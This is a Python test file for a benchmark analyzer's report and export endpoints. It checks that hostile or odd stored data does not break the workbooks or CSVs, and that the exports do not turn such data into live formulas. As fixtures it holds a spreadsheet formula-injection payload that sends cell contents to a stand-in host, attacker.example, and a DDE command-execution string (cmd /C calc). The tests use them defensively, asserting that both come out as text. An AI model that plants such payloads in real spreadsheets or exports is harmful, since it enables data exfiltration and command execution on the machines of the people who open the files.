"""Reports and exports of hostile or odd stored data: events come from the bus, so names, tool versions
and kernels are whatever a producer wrote, and values are any finite number. Each test stores real
events in a real DuckDB file and asks the real analyzer app (TestClient) for the file."""

from __future__ import annotations

import io
import logging
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from fastapi.testclient import TestClient
from podtax import events
from podtax_analyzer.api import create_app
from podtax_analyzer.store import Store

from tests.analysis.analysis_synth import sysbench_results

T0 = datetime(2025, 1, 6, 8, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def result_events(campaign: str, host: list[float], pod: list[float], *, node: str = "node-1",
                  tool_version: str = "1.0.20", run_prefix: str | None = None,
                  t0: datetime = T0) -> list[events.Envelope]:
    """Results as a store may hold them: names on the bus are checked since Dec 3 (events.NodeName), but a
    store written before holds what it got, and its reports and exports must not break on it, so the runs
    are built unchecked."""
    return sysbench_results(campaign, host, pod, node=node, tool_version=tool_version, run_prefix=run_prefix,
                            t0=t0, checked=False)


def named_events(campaign: str, node: str, unit: str, tool_version: str, t0: datetime = T0) -> list[events.Envelope]:
    """Eight results a side, pod 3% faster, on ``node`` with ``tool_version`` and every metric in ``unit``: names as a
    store written before they were checked may hold them."""
    host = [1000.0 + i for i in range(8)]
    batch = result_events(campaign, host, [v * 0.97 for v in host], node=node, tool_version=tool_version,
                          run_prefix=f"{campaign}-r", t0=t0)
    for env in batch:  # the metric's unit too
        for m in env.data.metrics:
            object.__setattr__(m, "unit", unit)
    return batch


@pytest.fixture
def store(tmp_path):
    s = Store(tmp_path / "podtax.duckdb")
    yield s
    s.close()


def test_workbook_writes_formula_like_strings_as_text(store):
    host = [1000.0 + i for i in range(6)]
    batch = result_events("evil", host, [v * 0.97 for v in host], node=FORMULA, tool_version="=1+1")
    batch.append(events.host_facts(events.HostFacts.model_construct(  # unchecked, as in result_events
        cluster="local", node=FORMULA, kernel="=2+2", os="Debian", cpu_model="=3+3", hw_threads=4, arch="x86_64",
        tool_versions={"sysbench": "1.0.20"}), "test"))
    store.write_batch(batch)
    resp = TestClient(create_app(store)).get("/api/campaigns/evil/export.xlsx")
    assert resp.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(resp.content))
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], "strings from events must never become formulas"
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert FORMULA in texts and "=2+2" in texts and "=3+3" in texts  # kept, as text
    assert any(isinstance(v, str) and v.startswith("sysbench =1+1") for v in texts)


def test_csv_export_writes_formula_like_strings_as_text(store):
    """The raw tables' CSV: a spreadsheet runs a cell that starts with = + - or @ (a build an import manifest
    named `hdparm 9.65 (=cmd|' /C calc'!A0)` reached runs.csv as `=cmd|' /C calc'!A0`). Such text cells
    start with an apostrophe, which a spreadsheet shows as text; numbers stay numbers."""
    import csv
    import zipfile

    host = [1000.0 + i for i in range(6)]
    store.write_batch(result_events("evil", host, [v * 0.97 for v in host], node=FORMULA,
                                    tool_version="=cmd|' /C calc'!A0"))
    resp = TestClient(create_app(store)).get("/api/campaigns/evil/export.zip", params={"format": "csv"})
    assert resp.status_code == 200
    cells: list[str] = []
    with zipfile.ZipFile(io.BytesIO(resp.content)) as zf:
        for name in zf.namelist():
            cells += [c for row in csv.reader(io.StringIO(zf.read(name).decode())) for c in row]
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True

    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)] == []
    assert "'" + FORMULA in cells and "'=cmd|' /C calc'!A0" in cells  # kept, as text (node, runs' tool_version)
    assert "1000.0" in cells or "1000" in cells  # numbers untouched


def test_sheet_titles_never_start_or_end_with_an_apostrophe():
    from podtax_analyzer.workbook import sheet_title

    taken: set[str] = set()
    for name in ("node x'", "'", "node " + "a" * 25 + "'b"):
        title = sheet_title(name, taken)
        assert title and not title.startswith("'") and not title.endswith("'"), title


def test_compare_when_a_base_ratio_is_zero_is_inconclusive_not_a_500(store):
    # a metric whose candidate median is 0 (most pod runs 0): no ratio (as for a baseline median of 0), so no change
    host = [1.0, 1.1, 0.9, 1.0, 1.2, 1.05]
    pod = [0.0, 0.0, 0.0, 1.0, 0.0, 0.0]
    # a day apart: runs of both at the same time on one node would overlap (OVERLAP withholds the ratio)
    store.write_batch(result_events("base", host, pod) + result_events("new", host, pod, t0=T0 + timedelta(days=1)))
    client = TestClient(create_app(store), raise_server_exceptions=False)
    resp = client.get("/api/compare", params={"base": "base", "new": "new"})
    assert resp.status_code == 200, resp.text
    (cell,) = resp.json()["cells"]
    assert cell["base_ratio"] is None and cell["change"] is None
    assert cell["verdict"] == "inconclusive"
    assert "base: the pod median is 0; new: the pod median is 0" in cell["sentence"], cell["sentence"]
    assert client.get("/report/new", params={"compare": "base"}).status_code == 200


def test_values_near_the_float_maximum_withhold_the_ratio_and_the_report_renders(store):
    # finite values whose medians overflow (inf/inf = NaN): the HTML page failed with a 500 (heat colour of NaN)
    huge = [1.7e308, 1.6e308, 1.5e308, 1.7e308, 1.79e308, 1.1e308]
    store.write_batch(result_events("huge", huge, huge))
    client = TestClient(create_app(store), raise_server_exceptions=False)
    (cell,) = client.get("/api/campaigns/huge/comparisons").json()["cells"]
    assert cell["ratio"] is None and cell["ci_low"] is None and cell["ci_high"] is None
    assert cell["sentence"].startswith("Inconclusive: no ratio could be computed")
    for path in ("/report/huge", "/api/campaigns/huge/export.xlsx", "/api/campaigns/huge/export.zip"):
        assert client.get(path).status_code == 200, path


def test_control_characters_in_names_do_not_break_the_workbooks(store):
    # XML 1.0 cannot hold NUL or \x1f: openpyxl raised IllegalCharacterError (500), also for another campaign
    # whose OVERLAP flag sentence names the forged run
    host = [1000.0 + i for i in range(6)]
    store.write_batch(result_events("nul", host, host, node="node\x00-1") + result_events("other", host, host)
                      + result_events("ctl", host, host, run_prefix="ctl\x1f"))
    client = TestClient(create_app(store), raise_server_exceptions=False)
    for campaign in ("nul", "other", "ctl"):
        resp = client.get(f"/api/campaigns/{campaign}/export.xlsx")
        assert resp.status_code == 200, (campaign, resp.text)
        wb = openpyxl.load_workbook(io.BytesIO(resp.content))
        texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert not any("\x00" in t or "\x1f" in t for t in texts)
    wb = openpyxl.load_workbook(io.BytesIO(client.get("/api/campaigns/nul/export.xlsx").content))
    assert "node node_x00-1" in wb.sheetnames  # as printable writes it (`\\x00`), a title has no backslash


def test_a_second_result_for_a_stored_run_is_ignored_and_said(store, caplog):
    """An audit sent three results for one run id (100, then 999, then another env and node): the first is
    kept, as a redelivery must find it; the others were dropped without a word."""
    first, = result_events("dup", [100.0], [])
    other = first.model_copy(update={"id": "forged-1", "data": first.data.model_copy(update={
        "metrics": [events.Metric(name="events_per_second", value=999.0, unit="events/s", higher_is_better=True)]})})
    store.write_batch([first])
    with caplog.at_level(logging.WARNING, logger="podtax.analyzer.store"):
        store.write_batch([first])  # a redelivery: nothing to say
        assert not caplog.records
        assert store.write_batch([other]) == set()
    assert "result forged-1 ignored: run dup-0 already has result" in caplog.text
    value = store.cursor().execute("SELECT value FROM metrics WHERE run_id = 'dup-0'").fetchone()
    assert value == (100.0,)


def test_failed_runs_and_their_reasons_are_in_the_report(store):
    """An audit: every kubernetes run timed out (a storage class that did not exist) and the report only
    said more runs were needed."""
    from podtax_analyzer.comparisons import compare_campaign

    batch = result_events("fails", [1000.0, 1001.0], [])
    for i in range(3):
        run = events.RunSpec(run_id=f"fails-k{i}", campaign="fails", node="node-1", env="kubernetes",
                             test="sysbench-cpu", params={"threads": 1})
        batch.append(events.run_failed(events.RunFailed(run=run, stage="runner", reason="timeout",
                                                        detail="the run did not finish within 8 s"), "test"))
    store.write_batch(batch)
    report = compare_campaign(store.cursor(), "fails")
    assert ("3 failed kubernetes runs of sysbench-cpu threads=1 on node-1: timeout (the run did not finish "
            "within 8 s)") in report.warnings


def test_a_text_longer_than_a_cell_holds_is_cut_and_says_so(store):
    # a tool build of 40,000 characters (a --version that printed a whole log) is more than a cell's 32,767
    # characters: openpyxl cut it there without a word, and the sheet read as if that were the whole build
    host = [1000.0 + i for i in range(6)]
    store.write_batch(result_events("long", host, host, tool_version="v" * 40_000))
    resp = TestClient(create_app(store)).get("/api/campaigns/long/export.xlsx")
    assert resp.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(resp.content))
    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert max(len(t) for t in texts) <= 32_767
    assert any(t.endswith("(cut: 40,009 characters, a cell holds 32,767)") and t.startswith("sysbench vvv")
               for t in texts), [t[-60:] for t in texts if len(t) > 1000]


def test_medians_that_overflow_are_empty_in_the_exports_as_null_in_the_json(store):
    # the medians of values near the float maximum overflow to inf: the JSON says null, comparisons.csv said `inf`,
    # and the workbook had a number cell with no value (<v></v>)
    import csv
    import re
    import zipfile

    huge = [1.7e308, 1.6e308, 1.5e308, 1.7e308, 1.79e308, 1.1e308]
    store.write_batch(result_events("huge", huge, huge))
    client = TestClient(create_app(store))
    (cell,) = client.get("/api/campaigns/huge/comparisons").json()["cells"]
    assert (cell["host_median"], cell["pod_median"]) == (None, None)
    zipped = zipfile.ZipFile(io.BytesIO(client.get("/api/campaigns/huge/export.zip").content))
    (row,) = csv.DictReader(io.StringIO(zipped.read("comparisons.csv").decode()))
    assert (row["host_median"], row["pod_median"]) == ("", "")
    book = zipfile.ZipFile(io.BytesIO(client.get("/api/campaigns/huge/export.xlsx").content))
    sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert not [m for s in sheets for m in re.findall(r"<v\s*/>|<v></v>", s)]
